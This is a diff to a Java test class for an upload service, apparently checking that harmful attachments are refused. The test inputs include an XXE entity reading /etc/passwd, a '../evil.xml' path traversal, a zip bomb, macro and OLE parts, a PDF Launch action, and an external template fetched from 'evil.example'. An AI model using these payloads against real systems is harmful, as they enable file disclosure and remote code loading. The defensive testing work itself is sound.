@@ -23,6 +23,7 @@ import java.time.Instant;
 import java.time.ZoneOffset;
 import java.util.ArrayList;
 import java.util.HexFormat;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Random;
 import java.util.UUID;
@@ -137,10 +138,10 @@ class AttachmentTest extends RunningService {
 
     @Test
     void takesPictures() {
-        upload("a.png", "image/png", new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0})
+        upload("a.png", "image/png", SampleFiles.picture("png"))
                 .then()
                 .statusCode(201);
-        upload("a.jpeg", "image/jpeg", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0})
+        upload("a.jpeg", "image/jpeg", SampleFiles.picture("jpeg"))
                 .then()
                 .statusCode(201);
     }
@@ -189,36 +190,16 @@ class AttachmentTest extends RunningService {
         refused("a.pdf", "application/pdf", new byte[0], "wrong-file-type");
     }
 
+    /** One of each kind; all ways are in {@code FilesThatDoHarmTest}. */
     @Test
-    void refusesOfficeFilesThatDoHarm() {
-        refused("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsxWith("xl/vbaProject.bin", "x"), "macros");
-        refused("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsxWith("xl/macrosheets/sheet1.xml", "<a/>"), "macros");
+    void refusesFilesThatDoHarm() {
+        refused("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsxWith("xl/vbaProject.bin", "x"), "active-content");
         refused("a.xlsx", SampleFiles.XLSX, SampleFiles.bomb(), "unpacks-too-large");
         refused("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsxWith("../evil.xml", "<a/>"), "unsafe-content");
-        refused(
-                "a.xlsx",
-                SampleFiles.XLSX,
-                SampleFiles.xlsxWith("xl/x.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
-                "unsafe-content");
         refused("a.xlsx", SampleFiles.XLSX, "PK\3\4 broken".getBytes(UTF_8), "broken-file");
-        // Behind a comment that is longer than what is read first.
-        var comment = "<!--" + "x".repeat(5_000) + "-->";
-        refused(
-                "a.xlsx",
-                SampleFiles.XLSX,
-                SampleFiles.xlsxWith("xl/x.xml", comment + "<!DOCTYPE a><a/>"),
-                "unsafe-content");
-        for (var part : List.of("xl/activeX/activeX1.xml", "xl/embeddings/oleObject1.bin")) {
-            refused("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsxWith(part, "x"), "macros");
-        }
-        refused(
-                "a.xlsx",
-                SampleFiles.XLSX,
-                SampleFiles.xlsxWith(
-                        "word/_rels/settings.xml.rels",
-                        "<Relationships>" + comment + "<Relationship Type=\"http://x/attachedTemplate\""
-                                + " Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"),
-                "macros");
+        refused("a.pdf", "application/pdf", "%PDF-1.7\n1 0 obj<</S/Launch>>endobj".getBytes(UTF_8), "active-content");
+        refused("a.png", "image/png", Arrays.copyOf(SampleFiles.picture("png"), 20), "broken-file");
+        refused("a.jpg", "image/jpeg", Arrays.copyOf(SampleFiles.picture("jpeg"), 20), "broken-file");
     }
 
     private static void refused(String name, String type, byte[] content, String code) {
